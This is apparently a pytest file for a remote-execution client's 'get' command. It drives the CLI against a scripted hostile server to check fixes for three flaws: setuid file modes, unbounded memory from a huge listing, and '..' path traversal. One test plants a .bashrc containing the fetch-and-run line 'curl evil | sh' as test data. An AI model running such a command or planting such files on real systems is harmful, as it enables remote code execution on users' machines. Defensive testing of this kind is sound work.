"""``rexec get`` against a server that lies (the third attacker's findings
F1, F2 and F8), through the real CLI: a scripted server built on the
project's protocol core answers the helper commands of ``get -r`` and the
``get`` requests as a malicious or compromised server could, within the
protocol. What the user must never get: a setuid or world-writable file, a
client whose memory grows with what the server sends, or a tree written
into the target's parent."""

from __future__ import annotations

import asyncio
import hashlib
import stat
import subprocess
import sys
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest
from client_helpers import CLI_TIMEOUT, cli_argv, fake_server, write_key

from rexec.protocol import Done, Exit, File, Get, Message, MessageBase, Run, Started, Stdout

MiB = 1024 * 1024
#: Body bytes per ``stdout`` frame the scripted server sends.
_CHUNK = 256 * 1024

#: What a scripted command prints: bytes, or chunks made as they are sent.
Output = bytes | Iterable[bytes]


class ScriptedServer:
    """Answers ``run`` with ``commands(cwd, argv)`` (its stdout; status 0)
    and ``get`` with ``files[path]`` (content and mode)."""

    def __init__(
        self,
        commands: Callable[[str | None, tuple[str, ...]], Output],
        files: dict[str, tuple[bytes, int]] | None = None,
    ) -> None:
        self.commands = commands
        self.files = files or {}
        self.runs: list[tuple[str | None, tuple[str, ...]]] = []

    def __call__(self, event: Message) -> Iterator[MessageBase]:
        if isinstance(event, Run):
            argv = tuple(event.argv or ())
            self.runs.append((event.cwd, argv))
            yield Started(id=event.id, pid=1)
            output = self.commands(event.cwd, argv)
            for chunk in [output] if isinstance(output, bytes) else output:
                for start in range(0, len(chunk), _CHUNK):
                    yield Stdout.with_data(event.id, chunk[start : start + _CHUNK])
            yield Exit(id=event.id, exit_code=0, signal=None, duration=0.0)
        elif isinstance(event, Get):
            content, mode = self.files[event.path]
            yield File(id=event.id, size=len(content), mode=mode)
            yield Stdout.with_data(event.id, content)
            digest = hashlib.sha256(content).hexdigest()
            yield Done(id=event.id, size=len(content), sha256=digest)


def tree_commands(
    directories: list[str], files: list[str], pwd: dict[str, str] | None = None
) -> Callable[[str | None, tuple[str, ...]], Output]:
    """A remote tree as ``get -r``'s helpers see it: ``find`` lists
    ``directories`` and ``files`` (relative, ``./``), ``pwd -P`` in a
    directory says ``pwd[cwd]``; ``true`` succeeds everywhere."""

    def commands(cwd: str | None, argv: tuple[str, ...]) -> Output:
        if argv[:4] == ("find", ".", "-type", "d"):
            return b"".join(name.encode() + b"\0" for name in directories)
        if argv[:4] == ("find", ".", "-type", "f"):
            return b"".join(name.encode() + b"\0" for name in files)
        if argv == ("sh", "-c", "pwd -P"):
            return (pwd or {}).get(cwd or "", "").encode() + b"\n"
        return b""

    return commands


#: The CLI, writing its own peak RSS (``VmHWM``, KiB) to ``argv[1]`` at exit.
_REPORTING_PEAK = """
import atexit, runpy, sys
path = sys.argv.pop(1)
def report():
    with open("/proc/self/status") as status, open(path, "w") as out:
        out.write(next(l.split()[1] for l in status if l.startswith("VmHWM:")))
atexit.register(report)
sys.argv[0] = "rexec"
runpy.run_module("rexec_client.cli", run_name="__main__", alter_sys=True)
"""


def run_cli(
    tmp_path: Path, script: ScriptedServer, *args: str, umask: int = 0o022
) -> tuple[int, str, int]:
    """``rexec get --key-file K 127.0.0.1:PORT *args`` against ``script``;
    returns its status, its stderr and its peak RSS in KiB: the ``VmHWM`` of
    its own image, which the CLI writes at exit (``wait4``'s ``ru_maxrss``
    also counts the test worker's pages the child had before its exec)."""
    key_file = tmp_path / "key"
    if not key_file.exists():
        write_key(key_file)
    key = bytes.fromhex(key_file.read_text().strip())

    def measured(address: str) -> tuple[int, str, int]:
        hwm = tmp_path / "peak-rss"
        argv = [sys.executable, "-c", _REPORTING_PEAK, str(hwm)]
        argv += cli_argv("get", "--key-file", str(key_file), address, *args)[3:]
        with open(tmp_path / "stderr", "w+b") as stderr:
            child = subprocess.run(
                argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=stderr,
                umask=umask, timeout=CLI_TIMEOUT,
            )  # fmt: skip
            stderr.seek(0)
            text = stderr.read().decode(errors="replace")
        return child.returncode, text, int(hwm.read_text())

    async def go() -> tuple[int, str, int]:
        async with fake_server(key, answer=script) as port:
            call = asyncio.to_thread(measured, f"127.0.0.1:{port}")
            return await asyncio.wait_for(call, CLI_TIMEOUT)

    return asyncio.run(go())


def one_line(status: int, stderr: str, expected_status: int = 1) -> str:
    lines = stderr.strip().splitlines()
    assert "Traceback" not in stderr, stderr
    assert status == expected_status and len(lines) == 1, (status, stderr)
    assert lines[0].startswith("rexec: "), stderr
    return lines[0]


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize("umask", [0o022, 0o077])
def test_get_never_takes_setuid_setgid_or_sticky_bits(tmp_path: Path, umask: int) -> None:
    """F1: a server's ``file`` frame said mode 0o7777, and the client made
    a setuid, setgid, sticky, world-writable file (as root: a setuid-root
    program). The local file gets the permission bits less the umask."""
    script = ScriptedServer(tree_commands([], []), {"/x/f": (b"#!/bin/sh\n", 0o7777)})
    status, stderr, _ = run_cli(tmp_path, script, "/x/f", str(tmp_path / "f"), umask=umask)
    assert status == 0, stderr
    assert mode_of(tmp_path / "f") == 0o777 & ~umask


def test_get_r_never_takes_setuid_bits(tmp_path: Path) -> None:
    """F1 for ``get -r``: each file of the tree too."""
    files = {"/srv/t/tool": (b"x", 0o6755), "/srv/t/data": (b"y", 0o666)}
    script = ScriptedServer(tree_commands(["."], ["./tool", "./data"]), files)
    status, stderr, _ = run_cli(tmp_path, script, "-r", "/srv/t", str(tmp_path / "t"))
    assert status == 0, stderr
    assert mode_of(tmp_path / "t" / "tool") == 0o755
    assert mode_of(tmp_path / "t" / "data") == 0o644


def test_a_huge_tree_listing_is_refused_with_bounded_memory(tmp_path: Path) -> None:
    """F2: the client held a server's ``find`` listing whole (747 MB RSS for
    150 MB of names). Now it stops at the limit, says so in one line, and
    makes nothing."""
    listing_mib = 100
    names = b"".join(b"./%07d%s\0" % (n, b"d" * 50) for n in range(16_000))

    def commands(cwd: str | None, argv: tuple[str, ...]) -> Output:
        if argv[:4] == ("find", ".", "-type", "d"):
            return (names for _ in range(listing_mib))
        return b""

    status, stderr, peak_kib = run_cli(
        tmp_path, ScriptedServer(commands), "-r", "/srv/tree", str(tmp_path / "t")
    )
    line = one_line(status, stderr)
    assert "'find' output passes 16 MiB" in line and "copy it in parts" in line
    assert not (tmp_path / "t").exists()
    assert peak_kib < 120 * 1024, f"peak RSS {peak_kib} KiB for {listing_mib} MiB of names"


def test_get_r_of_dotdot_goes_under_the_name_it_resolves_to(tmp_path: Path) -> None:
    """F8: ``get -r HOST .. DIR`` (DIR existing) took ``..`` as the tree's
    own name and wrote the server's files into DIR's parent, replacing a
    ``.bashrc`` there."""
    bashrc = tmp_path / ".bashrc"
    bashrc.write_text("ORIGINAL\n")
    target = tmp_path / "target"
    target.mkdir()
    files = {"../.bashrc": (b"curl evil | sh\n", 0o644)}
    script = ScriptedServer(tree_commands(["."], ["./.bashrc"], {"..": "/home"}), files)
    status, stderr, _ = run_cli(tmp_path, script, "-r", "..", str(target))
    assert status == 0, stderr
    assert bashrc.read_text() == "ORIGINAL\n"
    assert (target / "home" / ".bashrc").read_bytes() == b"curl evil | sh\n"


@pytest.mark.parametrize("remote", ["/srv/..", "/", "~"])
def test_get_r_of_the_root_into_a_directory_is_refused(tmp_path: Path, remote: str) -> None:
    """F8: a REMOTE that resolves to ``/`` has no name to go under: refused
    in one line rather than spilled into DIR itself."""
    target = tmp_path / "target"
    target.mkdir()
    cwd = "." if remote == "~" else remote
    script = ScriptedServer(tree_commands(["."], ["./f"], {cwd: "/"}), {f"{cwd}/f": (b"x", 0o644)})
    status, stderr, _ = run_cli(tmp_path, script, "-r", remote, str(target))
    line = one_line(status, stderr)
    assert "the remote directory is '/', which has no name" in line
    assert list(target.iterdir()) == []
    assert not any(argv[0] == "find" for _, argv in script.runs)


def test_get_r_of_a_real_dotdot_path(server: Any, tmp_path: Path) -> None:
    """F8 against a real rexecd: ``get -r HOST SRC/sub/.. DIR`` makes
    DIR/SRC (the directory ``..`` names), nothing in DIR's parent."""
    work = tmp_path / "work"
    source = work / "source"
    (source / "sub").mkdir(parents=True)
    (source / "sub" / "f").write_text("f\n")
    dest = work / "dest"
    dest.mkdir()
    argv = cli_argv("get", "--key-file", str(server.key_file), server.address, "-r",
                    str(source / "sub" / ".."), str(dest))  # fmt: skip
    result = subprocess.run(argv, capture_output=True, timeout=CLI_TIMEOUT, check=False)
    assert result.returncode == 0, result.stderr
    assert (dest / "source" / "sub" / "f").read_text() == "f\n"
    assert sorted(p.name for p in work.iterdir()) == ["dest", "source"]
